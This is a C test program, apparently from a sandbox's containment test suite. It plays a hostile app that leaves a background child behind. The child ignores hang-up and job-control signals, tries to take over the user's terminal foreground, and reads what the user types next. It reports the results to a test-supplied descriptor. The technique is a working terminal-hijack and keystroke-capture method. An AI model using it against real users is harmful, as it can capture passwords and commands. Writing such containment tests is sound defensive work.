/* A hostile app that leaves a process behind to take the user's terminal after appv
 * returned (issue: containment, terminal): the app itself exits at once; its child
 * ignores the terminal's job-control and hang-up signals, waits until the user's shell
 * has its prompt again, then tries to make itself the terminal's foreground process
 * group (tcsetpgrp, TIOCSCTTY) and to read what the user types next from every
 * descriptor it inherited. It reports each attempt, one line each, to descriptor 3
 * (a file the test passes on):
 *   foreground <ok|errno text>
 *   read <the bytes it got, or errno text, or "nothing">
 * Usage: terminal_thief [DELAY_MS]   (default 700) */
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

static void sleep_ms(long ms) {
  struct timespec t = {ms / 1000, (ms % 1000) * 1000000L};
  while (nanosleep(&t, &t) != 0 && errno == EINTR) {
  }
}

int main(int argc, char** argv) {
  const long delay = argc > 1 ? atol(argv[1]) : 700;
  signal(SIGHUP, SIG_IGN); /* before the fork: the hang-up may come at once */
  signal(SIGTTOU, SIG_IGN);
  signal(SIGTTIN, SIG_IGN);
  signal(SIGTSTP, SIG_IGN);
  if (fork() != 0) return 0; /* the app "ends"; appv returns */
  /* A process group of its own in the same session: one that can be made the
   * terminal's foreground from inside a PID namespace (the inherited one is outside). */
  setpgid(0, 0);
  FILE* report = fdopen(3, "w");
  if (!report) return 1;
  setvbuf(report, NULL, _IONBF, 0);
  sleep_ms(delay);

  /* Every descriptor it inherited but its report: 0-2, and any other the caller
   * passed on (4</dev/tty). */
  int took = -1, err = 0;
  for (int fd = 0; fd <= 9 && took != 0; ++fd) {
    if (fd == 3) continue;
    took = tcsetpgrp(fd, getpgrp());
    if (took != 0) {
      err = errno;
      if (ioctl(fd, TIOCSCTTY, 1) == 0 && tcsetpgrp(fd, getpgrp()) == 0) took = 0;
    }
  }
  fprintf(report, "foreground %s\n", took == 0 ? "ok" : strerror(err));

  /* Whatever the user types next, from any inherited descriptor, for 3 seconds. */
  char got[256];
  size_t have = 0;
  int last_err = 0;
  const time_t until = time(NULL) + 3;
  while (time(NULL) < until && have < sizeof got - 1) {
    struct pollfd p[9] = {{0, POLLIN, 0}, {1, POLLIN, 0}, {2, POLLIN, 0}, {4, POLLIN, 0}, {5, POLLIN, 0},
                          {6, POLLIN, 0}, {7, POLLIN, 0}, {8, POLLIN, 0}, {9, POLLIN, 0}};
    if (poll(p, 9, 200) <= 0) continue;
    int progress = 0;
    for (int i = 0; i < 9; ++i) {
      if (!(p[i].revents & (POLLIN | POLLHUP | POLLERR))) continue;
      ssize_t n = read(p[i].fd, got + have, sizeof got - 1 - have);
      if (n > 0) {
        have += (size_t)n;
        progress = 1;
      } else if (n < 0) {
        last_err = errno;
      }
    }
    if (!progress) sleep_ms(100); /* hung-up descriptors poll ready forever */
  }
  got[have] = '\0';
  for (size_t i = 0; i < have; ++i) if (got[i] == '\n' || got[i] == '\r') got[i] = ' ';
  if (have) fprintf(report, "read %s\n", got);
  else fprintf(report, "read %s\n", last_err ? strerror(last_err) : "nothing");
  return 0;
}
